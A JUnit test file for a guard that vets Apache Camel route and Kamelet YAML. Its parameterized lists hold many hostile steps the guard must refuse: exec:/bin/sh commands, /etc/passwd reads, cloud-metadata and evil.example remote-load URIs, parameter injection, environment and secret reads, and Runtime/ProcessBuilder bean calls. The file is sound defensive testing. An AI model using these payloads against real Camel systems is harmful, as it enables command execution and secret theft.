package dev.tocsin.routing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a route file can try, and that it is refused with its line. */
class GuardTests {

  private static final String HEAD =
      """
      - route:
          id: r
          description: A route.
          from:
            uri: direct:r
            steps:
      """;

  private Palette palette = new StandIns().palette(java.util.Map.of());

  @BeforeEach
  void shipped() throws IOException {
    palette = ShippedFiles.palette(new StandIns());
  }

  private List<Problem> route(String text) {
    return Guard.route("r", text, palette).problems();
  }

  /** The problems of a route with this one step; the step is on line 7. */
  private List<Problem> step(String step) {
    return route(HEAD + "        - " + step + "\n");
  }

  @Test
  void anHonestRoutePasses() {
    assertThat(step("to: direct:other")).isEmpty();
    assertThat(step("log: \"incident ${header.number} in ${routeId}\"")).isEmpty();
    assertThat(step("setHeader: {name: mailKind, constant: client}")).isEmpty();
    assertThat(step("bean: {ref: parse, method: \"read(${body}, 'alertmanager')\"}")).isEmpty();
    assertThat(step("filter: {simple: \"${header.kind} == 'spam'\", steps: [{stop: {}}]}"))
        .isEmpty();
    assertThat(step("setProperty: {name: x, jq: '.labels.env // {env: 1}'}")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // programs, scripts, files, the network
        "to: exec:id",
        "to: 'exec:/bin/sh?args=-c id'",
        "to: file:/etc?fileName=passwd",
        "to: FILE:/etc",
        "to: 'direct://x?y=z'",
        "to: ssh:root@host",
        "to: http://169.254.169.254/",
        "to: sql:select 1",
        "to: jdbc:dataSource",
        "to: log:x?showAll=true",
        "to: class:java.lang.Runtime",
        "to: bean:dataSource?method=close",
        "to: bean:parse",
        "to: language:groovy:x",
        "to: controlbus:route?routeId=r&action=stop",
        "to: stub:x",
        "to: mock:x",
        "to: seda:x",
        "to: quartz:x",
        "to: ref:feed-component",
        "to: xslt:file:/x.xsl",
        "to: freemarker:x?allowTemplateFromHeader=true",
        "to: feed:webhook:mine",
        "to: {uri: direct:x, parameters: {exceptionHandler: '#bean:x'}}",
        "to: ' direct:x'",
        "to: 'direct:x\\n'",
        "to: \"direct:x\\u0000\"",
        "to: \"{{sys:java.home}}\"",
        "to: \"direct:{{env:HOME}}\"",
        "to: \"direct:{{tocsin.routes.unset}}\"",
        "to: \"direct:{{tocsin.secrets.alertmanager}}\"",
        "to: \"direct:{{tocsin.routes.x:fallback}}\"",
        "to: \"direct:{{?tocsin.routes.x}}\"",
        "to: \"direct:{{bean:parse.x}}\"",
        "to: \"direct:{{vault:}}\"",
        "to: \"direct:{{vault:../x}}\"",
        "to: \"direct:{{vault:x/}}\"",
        "to: \"direct:{{vault:x/y/z}}\"",
        "to: \"direct:{{vault:x#y}}\"",
        "to: \"direct:{{vault:x:fallback}}\"",
        "to: \"direct:{{hashicorp:secret:x}}\"",
        // Kamelets
        "to: kamelet:../../etc/passwd",
        "to: kamelet:correlate-sink/other",
        "to: kamelet:correlate-sink?location=http://evil.example/k.yaml",
        "to: {uri: kamelet:correlate-sink, parameters: {location: 'http://evil.example/'}}",
        "to: {uri: kamelet:correlate-sink, parameters: {templateId: x}}",
        "to: kamelet:unknown-sink",
        "to: kamelet:source",
        "to: kamelet:sink",
        "to: kamelet:webhook-source",
        "to: kamelet:parse-action",
        "to: {uri: kamelet:parse-action, parameters: {format: \"x', ${bean:dataSource}, '\"}}",
        "to: {uri: kamelet:parse-action, parameters: {format: 'a,b'}}",
        "to: {uri: kamelet:parse-action, parameters: {format: \"RAW(x)\"}}",
        "to: {uri: kamelet:parse-action, parameters: {format: '#class:java.io.File'}}",
        "to: {uri: kamelet:parse-action, parameters: {format: '{{env:HOME}}'}}",
        "to: {uri: kamelet:parse-action, parameters: {format: [a]}}",
        "to: {uri: kamelet:quarantine-sink, parameters: {reason: \"x') + (\"}}",
        "to: {uri: kamelet:quarantine-sink, parameters: {reason: \"${body}\"}}",
        "to: {uri: kamelet:quarantine-sink, parameters: {reason: \"$simple{body}\"}}",
        "to: {uri: kamelet:quarantine-sink, parameters: {reason: \"it's\"}}",
        "to: {uri: kamelet:quarantine-sink, parameters: {reason: 'back\\slash'}}",
        "to: {uri: kamelet:isolate-sink, parameters: {mode: always}}",
        "to: {uri: kamelet:isolate-sink, parameters: {mode: proposed, other: 1}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '[env]'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '{a: $ENV.HOME}'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '\"\\(env.HOME)\"'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: 'def env: 1; env'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '{env}'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: 'import \"x\" as x; .'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: 'include \"x\"; .'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '[repeat(1)]'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '[range(0;1e12)]'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: 'input'}}",
        "to: {uri: kamelet:map-action, parameters: {expression: \"# x\\r env\"}}",
        "to: {uri: kamelet:map-action, parameters: {expression: '{{sys:x}}'}}",
        // step kinds
        "toD: direct:x",
        "toD: \"${header.CamelHttpUri}\"",
        "wireTap: {uri: exec:id}",
        "enrich: {simple: \"file:/etc/passwd\"}",
        "pollEnrich: {constant: \"file:/etc\"}",
        "recipientList: {header: to}",
        "routingSlip: {header: to}",
        "dynamicRouter: {header: to}",
        "script: {groovy: 'x'}",
        "process: {ref: x}",
        "transform: {simple: x}",
        "unmarshal: {json: {unmarshalType: java.io.File}}",
        "marshal: {json: {}}",
        "throwException: {exceptionType: java.lang.Error, message: x}",
        "doTry: {steps: []}",
        "loop: {constant: '999999999', steps: [{stop: {}}]}",
        "saga: {}",
        "kamelet: {name: correlate-sink}",
        "convertBodyTo: {type: java.io.File}",
        "onException: {exception: [java.lang.Exception]}",
        "setVariable: {name: x, constant: y}",
        "removeHeaders: {pattern: '*'}",
        "set-body: {constant: x}",
        "bean: {ref: parse, method: \"read(${body}, 'x')\", beanType: java.lang.Runtime}",
        "bean: {beanType: java.lang.ProcessBuilder, method: start}",
        "bean: parse",
        // beans
        "bean: {ref: dataSource, method: close()}",
        "bean: {ref: '#class:java.lang.ProcessBuilder', method: start()}",
        "bean: {ref: parse}",
        "bean: {ref: parse, method: read}",
        "bean: {ref: parse, method: getClass()}",
        "bean: {ref: parse, method: hashCode()}",
        "bean: {ref: parse, method: wait()}",
        "bean: {ref: parse, method: \"missing(${body})\"}",
        "bean: {ref: parse, method: \"read(${body})\"}",
        "bean: {ref: parse, method: \"read(${body}, ${bean:dataSource})\"}",
        "bean: {ref: parse, method: \"read(${body}, ${body.class})\"}",
        "bean: {ref: parse, method: \"read(${body}, ${header.CamelBeanMethodName})\"}",
        "bean: {ref: parse, method: \"read(${body}, ${env.HOME})\"}",
        "bean: {ref: parse, method: \"read(${body}, 'x').toString()\"}",
        "bean: {ref: parse, method: \"read(${body}, java.lang.Runtime.class)\"}",
        "bean: {ref: parse, method: \"read(*, *)\"}",
        "bean: {ref: parse, method: \"read(${body}, 'x',)\"}",
        // headers and properties that Camel obeys
        "setHeader: {name: CamelHttpUri, constant: x}",
        "setHeader: {name: CAmelExecCommandExecutable, constant: /bin/sh}",
        "setHeader: {name: camelFileName, constant: x}",
        "setHeader: {name: org.apache.camel.x, constant: x}",
        "setHeader: {name: 'mail.smtp.ssl.trust', constant: x}",
        "setHeader: {name: \"${header.x}\", constant: x}",
        "setHeader: {constant: x}",
        "setProperty: {name: CamelToEndpoint, constant: x}",
        "removeHeader: {name: 'Camel*'}",
        // expressions
        "setBody: {simple: \"${bean:parse}\"}",
        "setBody: {simple: \"${body.class.classLoader}\"}",
        "setBody: {simple: \"${env.HOME}\"}",
        "setBody: {simple: \"${sysenv.HOME}\"}",
        "setBody: {simple: \"${sys.user.home}\"}",
        "setBody: {simple: \"${properties:tocsin.secrets.x}\"}",
        "setBody: {simple: \"${ref:dataSource}\"}",
        "setBody: {simple: \"${type:java.lang.Runtime}\"}",
        "setBody: {simple: \"${camelContext.name}\"}",
        "setBody: {simple: \"${exchange.context}\"}",
        "setBody: {simple: \"${mandatoryBodyAs(java.io.File)}\"}",
        "setBody: {simple: \"${header.x.y}\"}",
        "setBody: {simple: \"${headers}\"}",
        "setBody: {simple: \"${header.camelX}\"}",
        "setBody: {simple: \"$simple{env.HOME}\"}",
        "setBody: {simple: \"$init{ $a := ${body} }init$\"}",
        "setBody: {simple: \"${${body}}\"}",
        "setBody: {simple: \"resource:file:/etc/passwd ${x}\"}",
        "setBody: {simple: {expression: x, resultType: java.io.File}}",
        "setBody: {constant: 'resource:file:/etc/passwd'}",
        "setBody: {constant: \"{{env:HOME}}\"}",
        "setBody: {groovy: x}",
        "setBody: {expression: {mvel: x}}",
        "setBody: {expression: {language: {language: groovy, expression: x}}}",
        "setBody: {ref: x}",
        "setBody: {csimple: x}",
        "setBody: {spel: 'T(java.lang.Runtime)'}",
        "setBody: {jq: env}",
        "setBody: {xpath: x}",
        "setBody: {method: {ref: dataSource, method: close()}}",
        "setBody: {method: {beanType: java.lang.Runtime, method: getRuntime()}}",
        "setBody: {header: CamelHttpUri}",
        "setBody: {constant: a, simple: b}",
        "setBody: {}",
        "filter: {simple: \"${body} is 'java.lang.String'\", steps: [{stop: {}}]}",
        "filter: {simple: \"${bean:x} == 1\", steps: [{stop: {}}]}",
        "filter: {simple: \"${header.a} == '${env.HOME}'\", steps: [{stop: {}}]}",
        "filter: {simple: \"true ? exec : x\", steps: [{stop: {}}]}",
        "choice: {when: [{simple: \"true\", steps: [{to: exec:id}]}]}",
        "choice: {when: [{simple: \"true\", steps: [{choice: {when: []}}]}]}",
        "choice: {otherwise: {steps: [{stop: {}}]}}",
        // logs
        "log: \"${body}\"",
        "log: \"${headers}\"",
        "log: \"${header.authorization}\"",
        "log: \"${exception.stacktrace}\"",
        "log: \"{{tocsin.secrets.x}}\"",
        "log: {message: x, loggerRef: y}",
        "log: {message: x, logName: y}",
        // YAML itself
        "&a to: direct:x",
        "to: !!java.io.File x",
        "to: !<tag:x> direct:x",
        "{to: direct:x, stop: {}}",
        "{<<: {to: exec:id}}",
        "direct:x",
      })
  void refusesAStep(String step) {
    List<Problem> problems = step(step);

    assertThat(problems).isNotEmpty();
    assertThat(problems).allSatisfy(problem -> assertThat(problem.line()).isBetween(6, 9));
    assertThat(problems).allSatisfy(problem -> assertThat(problem.message()).isNotBlank());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{}",
        "[]",
        "- beans: []",
        "- from: {uri: direct:r, steps: [{stop: {}}]}",
        "- rest: {}",
        "- routeTemplate: {id: r}",
        "- templatedRoute: {routeTemplateRef: x}",
        "- routeConfiguration: {}",
        "- onException: {}",
        "- errorHandler: {deadLetterChannel: {deadLetterUri: exec:id}}",
        "- intercept: {}",
        "- restConfiguration: {}",
        "- dataFormats: {}",
        "- route: {}\n  beans: []",
        "- route: {id: r, description: d, from: {uri: direct:r, steps: [{stop: {}}]}}\n- route: {}",
        "- route: {id: other, description: d, from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- route: {id: r, from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- route: {id: r, description: '', from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, from: {uri: direct:r, steps: []}}",
        "- route: {id: r, description: d, from: {uri: direct:r}}",
        "- route: {id: r, description: d, from: {uri: 'timer:x', steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, from: {uri: 'feed:webhook:x', steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, from: {uri: 'file:/etc', steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, from: {uri: kamelet:map-action, steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, errorHandlerRef: x, from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- route: {id: r, description: d, routePolicy: x, from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- route: {id: r, id: r, description: d, from: {uri: direct:r, steps: [{stop: {}}]}}",
        "- &a [*a]",
        "%YAML 1.1\n---\n- route: {}",
        "- route: {}\n---\n- route: {}",
        "- route: {id: r",
        "apiVersion: camel.apache.org/v1\nkind: Integration",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
      })
  void refusesAFile(String text) {
    assertThat(route(text)).isNotEmpty();
  }

  @Test
  void namesTheLineOfEachProblem() {
    String text = HEAD + "        - to: direct:x\n        - toD: x\n        - log: \"${body}\"\n";

    assertThat(route(text)).extracting(Problem::line).containsExactly(8, 9);
  }

  @Test
  void aSecretsPlaceholderStandsForItsName() {
    String text =
        HEAD
            + "        - to: {uri: kamelet:parse-action, parameters: {format: \"{{vault:alertmanager}}\"}}\n"
            + "        - to: {uri: kamelet:parse-action, parameters: {format: \"{{vault:x}}-{{env:HOME}}\"}}\n";
    assertThat(Guard.route("r", text, palette).problems())
        .isNotEmpty()
        .allSatisfy(problem -> assertThat(problem.line()).isEqualTo(8));
  }

  @Test
  void checksWhatASettingReallyHolds() {
    Palette set =
        new Palette(
            palette.kamelets(),
            palette.steps(),
            palette.feeds(),
            name ->
                Optional.of(name.endsWith("good") ? "alertmanager" : "x', ${bean:dataSource}, '"));
    String text =
        HEAD
            + "        - to: {uri: kamelet:parse-action, parameters: {format: \"{{tocsin.routes.good}}\"}}\n"
            + "        - to: {uri: kamelet:parse-action, parameters: {format: \"{{tocsin.routes.bad}}\"}}\n";

    assertThat(Guard.route("r", text, set).problems())
        .singleElement()
        .satisfies(problem -> assertThat(problem.line()).isEqualTo(8));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "uri: kamelet:source|steps: [{to: exec:id}]",
        "uri: kamelet:source|steps: [{to: direct:x}]",
        "uri: kamelet:source|steps: [{to: kamelet:sink}]",
        "uri: kamelet:source|steps: [{to: kamelet:correlate-sink}]",
        "uri: feed:webhook:x|steps: [{stop: {}}]",
        "uri: direct:x|steps: [{stop: {}}]",
        "uri: kamelet:source|steps: [{log: \"{{text}}\"}]",
        "uri: kamelet:source|steps: [{setBody: {simple: \"{{text}}\"}}]",
        "uri: kamelet:source|steps: [{setBody: {constant: \"x {{text}}\"}}]",
        "uri: kamelet:source|steps: [{setBody: {constant: \"{{env:HOME}}\"}}]",
        "uri: kamelet:source|steps: [{setBody: {constant: \"{{missing}}\"}}]",
        "uri: kamelet:source|steps: [{setBody: {jq: \"{{program}}\"}}]",
        "uri: kamelet:source|steps: [{bean: {ref: parse, method: \"read(${body}, {{text}})\"}}]",
        "uri: kamelet:source|steps: [{bean: {ref: parse, method: \"read(${body}, '{{program}}')\"}}]",
        "uri: kamelet:source|steps: [{bean: {ref: parse, method: \"read(${body}, 'a {{text}}')\"}}]",
        "uri: kamelet:source|steps: [{bean: {ref: \"{{text}}\", method: \"read(${body}, 'a')\"}}]",
        "uri: kamelet:source|steps: [{bean: {ref: parse, method: \"{{text}}(${body}, 'a')\"}}]",
        "uri: kamelet:source|steps: [{setHeader: {name: \"{{text}}\", constant: x}}]",
        "uri: \"{{text}}\"|steps: [{stop: {}}]",
        "uri: kamelet:source|beans: []",
      })
  void refusesAKameletsTemplate(String template) {
    String from = template.replace("|", "\n      ");
    List<Problem> problems = Guard.kamelet("x-action", kamelet("text", from), palette).problems();

    assertThat(problems).isNotEmpty();
    assertThat(problems).allSatisfy(problem -> assertThat(problem.line()).isGreaterThan(20));
  }

  @Test
  void anHonestKameletPasses() {
    String from = "uri: kamelet:source\n      steps: [{setBody: {constant: \"{{program}}\"}}]";

    assertThat(Guard.kamelet("x-action", kamelet("text", from), palette).problems()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "location",
        "templateId",
        "routeId",
        "Camel",
        "exceptionHandler",
        "a.b",
        "x-y",
        "timeout"
      })
  void refusesAPropertyThatCamelReads(String property) {
    String from = "uri: kamelet:source\n      steps: [{stop: {}}]";

    assertThat(Guard.kamelet("x-action", kamelet(property, from), palette).problems()).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"x", "../x-action", "X-action", "x-action/y", "-action"})
  void refusesAKameletsName(String name) {
    String from = "uri: kamelet:source\n      steps: [{stop: {}}]";

    assertThat(Guard.kamelet(name, kamelet("text", from), palette).problems()).isNotEmpty();
  }

  private static String kamelet(String property, String from) {
    return """
    apiVersion: camel.apache.org/v1
    kind: Kamelet
    metadata:
      name: x-action
    spec:
      definition:
        title: X
        description: Does x.
        type: object
        required: [program, %s]
        properties:
          program:
            title: Program
            description: A program.
            type: string
            format: jq
          %s:
            title: Text
            description: A text.
            type: string
      template:
        from:
          %s
    """
        .formatted(property, property, from);
  }
}
